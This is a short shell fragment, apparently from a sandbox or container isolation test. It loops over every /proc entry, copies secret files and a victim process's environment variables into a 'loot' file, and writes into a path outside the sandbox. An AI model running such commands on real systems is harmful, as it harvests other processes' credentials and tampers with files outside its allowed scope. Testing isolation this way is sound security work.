for process in /proc/[0-9]*; do
  cat "$process/root$SECRET" "$process/cwd/secret.txt" >> "$FILES/loot"
  echo changed > "$process/root$OUTSIDE"
done
cat "/proc/$VICTIM/environ" "/proc/$VICTIM/root$SECRET" >> "$FILES/loot"
